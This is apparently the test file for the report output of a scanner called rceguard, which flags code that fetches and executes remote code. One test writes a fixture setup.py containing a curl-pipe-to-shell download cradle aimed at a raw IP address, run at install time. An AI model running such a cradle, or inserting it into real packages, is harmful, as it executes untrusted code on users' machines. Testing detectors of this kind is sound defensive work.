"""--format report: one object per file with findings, built from the findings only."""
from __future__ import annotations

import json
from pathlib import Path

from rceguard.cli import main
from rceguard.config import Config
from rceguard.report import render
from rceguard.report.report import purpose_of
from rceguard.scan import scan

ROOT = Path(__file__).parent.parent
CASES = ROOT / "tests" / "cases"


def _report(*paths: Path) -> dict:
    return json.loads(render("report", scan(list(paths), Config())))


def _file(doc: dict, suffix: str) -> dict:
    (f,) = [f for f in doc["files"] if f["path"].endswith(suffix)]
    return f


def test_examples_one_object_per_file_with_findings() -> None:
    doc = _report(ROOT / "examples")
    assert [f["path"] for f in doc["files"]] == ["examples/remote_plugin.py"]  # benign.py: no object
    f = doc["files"][0]
    assert f["purpose"] == "Example: a plugin loader that downloads Python code and runs it."
    assert [s["api"] for s in f["sources"]] == ["urllib3.PoolManager.request"]
    assert [(s["rule"], s["runs"], s["call"]) for s in f["sinks"]] == [
        ("RCE001", "python code", "exec(compiled, module.__dict__)")]
    assert f["flows"][0].startswith("`http.request(\"GET\", url)` returns network data (HTTP response body) (line ")
    assert " -> executed by `exec(compiled, module.__dict__)`" in f["flows"][0]
    assert f["anomalies"] == ["code fetched and executed with no integrity check"]
    # RCE001: severity 9.3, precision high (0.85)
    assert (f["confidence"], f["securityRisk"], f["malware"], f["obfuscated"]) == (0.85, 0.79, 0, 0)
    assert f["conclusion"].startswith("High risk") and "more likely a risky design than malware" in f["conclusion"]
    assert doc["summary"] == {"files_scanned": 2, "files_with_findings": 1, "findings": 1}


def test_signs_of_intent_in_a_pth_hook() -> None:
    f = _file(_report(CASES / "pth" / "startup_hook.pth"), "startup_hook.pth")
    assert f["obfuscated"] == 1
    assert {"payload hidden by base64+zlib", "runs at every interpreter start-up",
            "fetches from a raw IP address (203.0.113.9)"} <= set(f["anomalies"])
    assert f["malware"] == 0.8  # obfuscation 0.35 + runs by itself 0.25 + raw IP 0.2
    assert "Signs of intent" in f["conclusion"] and "not a verdict" in f["conclusion"]
    assert f["purpose"].startswith('added by a "performance" package')


def test_integrity_checks() -> None:
    doc = _report(CASES / "integrity")
    same = _file(doc, "not_a_check.py")
    assert "integrity check compares with a digest from the same server" in same["anomalies"]
    pinned = _file(doc, "pinned_digest.py")
    assert pinned["anomalies"] == [] and pinned["securityRisk"] < 0.3 and pinned["malware"] == 0
    assert pinned["conclusion"].startswith("Every flow found is verified")


def test_install_time_and_cradle(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text(
        '"""Install helper."""\nimport os\nos.system("curl -fsSL http://198.51.100.4/i.sh | sh")\n')
    f = _file(_report(tmp_path / "setup.py"), "setup.py")
    assert f["purpose"] == "Install helper."
    assert {"runs at install time", "fetches from a raw IP address (198.51.100.4)"} <= set(f["anomalies"])
    assert any(a.startswith("shell download cradle") for a in f["anomalies"])
    assert f["malware"] == 0.55  # runs by itself 0.25 + raw IP 0.2 + cradle 0.1


def test_purpose() -> None:
    assert purpose_of('#!/usr/bin/env python\n# -*- coding: utf-8 -*-\n"""Fetch things.\n\nMore."""\n') == "Fetch things."
    assert purpose_of("# Sync the cache\n# every hour\n\nimport os\n# later\n") == "Sync the cache every hour"
    assert purpose_of("import os\n# rceguard: ignore[RCE001]\nx = 1\n") == ""
    assert purpose_of("import os\n\n# Loader for plugins\nx = 1\n") == "Loader for plugins"
    assert purpose_of("x = (\n") == ""


def test_cli_format_report_is_deterministic(capsys) -> None:
    args = ["--format", "report", str(CASES / "pth"), str(ROOT / "examples")]
    assert main(args) == 1
    first = capsys.readouterr().out
    assert main(["--format", "report", args[3], args[2]]) == 1  # other order, same bytes
    assert capsys.readouterr().out == first
    assert json.loads(first)["version"] == 1
